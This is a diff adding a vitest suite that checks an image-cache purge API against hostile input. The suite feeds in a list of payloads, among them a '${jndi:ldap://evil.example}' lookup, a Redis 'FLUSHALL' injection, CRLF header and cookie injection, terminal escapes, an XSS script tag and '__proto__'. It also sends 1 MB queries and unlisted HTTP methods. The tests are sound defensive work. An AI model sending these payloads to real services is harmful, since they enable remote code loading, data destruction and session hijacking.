@@ -1,0 +1,140 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { descriptions } from "../../src/build/openapi.ts";
+import { accepting, startApp, type TestApp, tokens } from "../support/app.ts";
+
+/** What ends a line, moves a cursor, turns text around, or reaches for a prototype. */
+const hostile = [
+  "\r\nX-Injected: 1",
+  '\n{"at":"2026-11-15T12:00:00.000Z","event":"forged"}',
+  "\u001b[2J\u001b]0;owned\u0007",
+  "\u009b31m",
+  "\u0000\u0008\u007f",
+  "\u2028\u2029\u0085",
+  "\u202edrow\u2066\u200f\ufeff",
+  `\${jndi:ldap://evil.example}`,
+  "__proto__",
+  "<script>alert(1)</script>",
+  "'); redis.call('FLUSHALL'); --",
+  "%0d%0aSet-Cookie:%20a=b",
+] as const;
+const unprintable = /\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}/u;
+const id = "p_01kaq3h8x0fj7m2k9t4v6w8y0z";
+
+let desk: TestApp;
+beforeAll(async () => {
+  desk = await startApp();
+  desk.imagekit.answer = accepting("Pending");
+});
+beforeEach(() => {
+  desk.logged.length = 0;
+});
+afterAll(() => desk.close());
+
+/** Lines that are one JSON object each, with events of ours only and nothing a terminal would act on. */
+function checkLog() {
+  expect(desk.logged).not.toEqual([]);
+  for (const line of desk.logged) {
+    expect(line).not.toMatch(unprintable);
+    expect(line.length).toBeLessThanOrEqual(8_000);
+    expect(JSON.parse(line).event).toMatch(/^(request|purge|batch-reserved|imagekit-send|imagekit-poll)$/);
+  }
+}
+
+describe.each(hostile.map((text) => [text]))("%j", (text) => {
+  test("in a path or a query breaks no route, header or log line", async () => {
+    for (const { endpoint } of descriptions) {
+      const method = endpoint.method.toUpperCase();
+      for (const path of [
+        `${endpoint.path.replace(":id", id)}/${encodeURIComponent(text)}`,
+        endpoint.path.replace(":id", encodeURIComponent(text)),
+        `${endpoint.path.replace(":id", id)}?${encodeURIComponent(text)}=${encodeURIComponent(text)}`,
+      ]) {
+        const answer = await desk.call(path, { method, token: tokens.admin });
+        expect(answer.status, `${method} ${path}`).toBeLessThan(500);
+        expect(answer.headers.get("X-Injected")).toBeNull();
+        expect(answer.headers.get("Set-Cookie")).toBeNull();
+      }
+    }
+    checkLog();
+  });
+
+  test("in a URL, a reason or a text body is data, and is shown as such", async () => {
+    const url = `https://ik.imagekit.io/demo/x.jpg${text}`;
+    for (const init of [
+      { json: { urls: [url] } },
+      { json: { urls: [`https://ik.imagekit.io/demo/x.jpg?x=${text}`], reason: text, onInvalid: "skip" } },
+      {
+        json: {
+          urls: ["https://ik.imagekit.io/demo/ok.jpg"],
+          reason: text,
+          changedAt: "2026-01-01T00:00:00Z",
+        },
+      },
+      { body: `${url}\n${text}`, type: "text/plain" },
+    ]) {
+      const answer = await desk.call("/api/purges", { method: "POST", token: tokens.admin, ...init });
+      expect(answer.status).toBeLessThan(500);
+      expect(answer.headers.get("Content-Type")).toMatch(/^application\/(problem\+)?json/);
+      expect([...answer.headers.values()].join()).not.toContain(text);
+    }
+    checkLog();
+  });
+
+  test("in what the platform says is the request's id never becomes a header", async () => {
+    const answer = await desk.call("/api/budget", { token: tokens.read, platform: { requestId: text } });
+    expect(answer.headers.get("X-Request-Id")).toMatch(text === "__proto__" ? /^__proto__$/ : /^r_/);
+  });
+
+  test("in an Idempotency-Key is refused or taken whole", async () => {
+    if (![...text].every((character) => character.charCodeAt(0) < 256) || /[\r\n\0]/.test(text)) return;
+    const json = { urls: ["https://ik.imagekit.io/demo/key.jpg"], changedAt: "2026-01-01T00:00:00Z" };
+    const headers = { "Idempotency-Key": text };
+    const answer = await desk.call("/api/purges", { method: "POST", token: tokens.admin, json, headers });
+    expect([200, 202, 422]).toContain(answer.status);
+    checkLog();
+  });
+});
+
+describe("a query of 1 MB", () => {
+  const long = "x".repeat(1_000_000);
+  test.each([
+    ["as a value", `q=${long}`],
+    ["as a name", `${long}=1`],
+    ["as a name twice", `${long}=1&${long}=2`],
+    ["of one name", "q=a&".repeat(250_000)],
+    ["of many names", Array.from({ length: 100_000 }, (_, n) => `a${n}=1`).join("&")],
+    ["of many names twice each", Array.from({ length: 50_000 }, (_, n) => `a${n}=1&a${n}=2`).join("&")],
+    ["of percent signs", "%".repeat(1_000_000)],
+    ["of prototypes", "__proto__=1&".repeat(80_000)],
+  ])("%s is refused in few words", async (_, query) => {
+    const answer = await desk.call(`/api/purges?${query}`, { token: tokens.read });
+    expect(answer.status).toBe(422);
+    expect(answer.text.length).toBeLessThan(10_000);
+    checkLog();
+  });
+
+  test("or a path of it gets a short 404", async () => {
+    const answer = await desk.call(`/api/purges/${long}`, { token: tokens.read });
+    expect(answer.status).toBe(404);
+    expect(answer.text.length).toBeLessThan(1_000);
+    checkLog();
+  });
+});
+
+test("methods that the document does not have are 405 on every one of its paths", async () => {
+  const paths = [...new Set(descriptions.map(({ endpoint }) => endpoint.path))];
+  for (const path of paths) {
+    const own = descriptions
+      .filter(({ endpoint }) => endpoint.path === path)
+      .map(({ endpoint }) => endpoint.method);
+    for (const method of ["GET", "POST", "PUT", "PATCH", "DELETE", "PURGE", "PROPFIND"]) {
+      if (own.some((each) => each.toUpperCase() === method)) continue;
+      const answer = await desk.call(path.replace(":id", id), { method, token: tokens.admin });
+      expect(answer, `${method} ${path}`).toMatchObject({
+        status: 405,
+        body: { code: "method-not-allowed" },
+      });
+    }
+  }
+  checkLog();
+});
